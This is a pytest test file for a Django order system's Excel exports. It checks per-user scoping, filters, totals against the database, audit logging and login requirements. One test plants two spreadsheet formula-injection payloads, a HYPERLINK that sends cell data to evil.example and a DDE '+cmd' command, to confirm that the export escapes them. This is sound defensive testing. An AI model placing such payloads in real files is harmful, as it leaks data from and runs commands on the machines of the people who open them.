"""Order and customer exports: scope, filters, totals equal to the database, formula injection neutralised."""

import io
from decimal import Decimal

from django.urls import reverse
from openpyxl import load_workbook

from gendan.orders.exports import ORDER_EXPORT_COLUMNS
from gendan.orders.models import Order, OrderStatus
from gendan.orders.selectors import order_visible_list
from gendan.orders.services import order_cancel, order_create
from gendan.parties.exports import CUSTOMER_EXPORT_COLUMNS
from tests.factories import CustomerFactory, ProductFactory, order_payload
from tests.files.conftest import client_for, sheet_rows

TITLES = [column.title for column in ORDER_EXPORT_COLUMNS]
NUMBER, STATUS, PO, AMOUNT, QUANTITY = (
    TITLES.index(t) for t in ("订单号", "状态", "客户订单号", "金额", "数量")
)


def _two_lines(customer, product, other_product, **overrides):
    data = order_payload(customer, product, **overrides)
    data["lines"].append(
        {"product": other_product.code, "quantity": "7.5", "unit_price": "3.3333", "color": "白"}
    )
    return data


def test_a_merchandisers_export_holds_only_their_orders_and_matches_the_database(people, customer, product):
    # given orders of m1 (two lines each) and of m2, another merchandiser of the same team
    other_product = ProductFactory()
    customer_m2 = CustomerFactory(merchandiser=people["m2"])
    mine = [
        order_create(
            actor=people["m1"], data=_two_lines(customer, product, other_product, customer_po=f"M1-{i}")
        )
        for i in range(3)
    ]
    theirs = order_create(actor=people["m2"], data=order_payload(customer_m2, product, customer_po="M2-1"))
    # when m1 exports the list
    response = client_for(people["m1"]).get(reverse("order_export"))
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    rows = sheet_rows(response.content)
    # then the header is Chinese, the rows are m1's lines only
    assert list(rows[0]) == TITLES
    data = rows[1:]
    assert {row[NUMBER] for row in data} == {order.number for order in mine}
    assert theirs.number not in {row[NUMBER] for row in data}
    assert len(data) == 6
    assert {row[STATUS] for row in data} == {"草稿"}
    # and the totals equal the database's, per order and overall
    for order in mine:
        amounts = [Decimal(str(row[AMOUNT])) for row in data if row[NUMBER] == order.number]
        quantities = [Decimal(str(row[QUANTITY])) for row in data if row[NUMBER] == order.number]
        assert sum(amounts) == order.total_amount
        assert sum(quantities) == order.total_quantity
    visible = order_visible_list(user=people["m1"])
    assert sum(Decimal(str(row[AMOUNT])) for row in data) == sum(o.total_amount for o in visible)
    # the supervisor of both sees both
    supervisor_rows = sheet_rows(client_for(people["sup"]).get(reverse("order_export")).content)[1:]
    assert theirs.number in {row[NUMBER] for row in supervisor_rows}


def test_export_follows_the_list_filters_and_ignores_bad_ones(people, customer, product):
    keep = order_create(actor=people["m1"], data=order_payload(customer, product, customer_po="KEEP"))
    gone = order_create(actor=people["m1"], data=order_payload(customer, product, customer_po="GONE"))
    order_cancel(order=gone, actor=people["sup"], reason="客户取消")
    client = client_for(people["m1"])
    rows = sheet_rows(client.get(reverse("order_export"), {"status": OrderStatus.DRAFT}).content)[1:]
    assert [row[NUMBER] for row in rows] == [keep.number]
    rows = sheet_rows(client.get(reverse("order_export"), {"q": "gone"}).content)[1:]
    assert [row[NUMBER] for row in rows] == [gone.number]
    response = client.get(
        reverse("order_export"),
        {"customer": "abc", "due_from": "not-a-date", "status": "nonsense", "ordering": "password"},
    )
    assert response.status_code == 200
    assert len(sheet_rows(response.content)) == 3


def test_formula_injection_in_an_exported_cell_is_neutralised(people, customer, product):
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"查看")'
    order_create(
        actor=people["m1"],
        data=order_payload(customer, product, customer_po=hostile, requirements="+cmd|' /C calc'!A0"),
    )
    response = client_for(people["m1"]).get(reverse("order_export"))
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    row = [cell.value for cell in next(sheet.iter_rows(min_row=2, max_row=2))]
    assert row[PO] == "'" + hostile
    assert row[TITLES.index("客户要求")] == "'+cmd|' /C calc'!A0"
    assert (
        isinstance(row[AMOUNT], int | float) and Decimal(str(row[AMOUNT])) == Order.objects.get().total_amount
    )


def test_customer_export_is_scoped(people, customer, other_customer):
    rows = sheet_rows(client_for(people["m1"]).get(reverse("customer_export")).content)
    assert list(rows[0]) == [column.title for column in CUSTOMER_EXPORT_COLUMNS]
    assert [row[0] for row in rows[1:]] == [customer.code]
    rows = sheet_rows(client_for(people["admin"]).get(reverse("customer_export")).content)
    assert {row[0] for row in rows[1:]} == {customer.code, other_customer.code}


def test_the_export_is_logged_with_who_what_and_how_many(people, customer, product, caplog):
    import logging

    order_create(actor=people["m1"], data=order_payload(customer, product))
    logger = logging.getLogger("gendan.orders.exports")
    logger.addHandler(caplog.handler)  # in case the gendan logger does not propagate to the root
    try:
        with caplog.at_level(logging.INFO, logger="gendan.orders.exports"):
            client_for(people["m1"]).get(reverse("order_export"), {"status": "draft", "q": "PO"})
    finally:
        logger.removeHandler(caplog.handler)
    (message,) = {r.getMessage() for r in caplog.records if r.name == "gendan.orders.exports"}
    assert "by m1" in message and "1 orders, 1 lines" in message
    assert "'status': ['draft']" in message and "'q': 'PO'" in message


def test_exports_need_a_login(db):
    from django.test import Client

    assert Client().get(reverse("order_export")).status_code == 302
    assert Client().get(reverse("customer_export")).status_code == 302
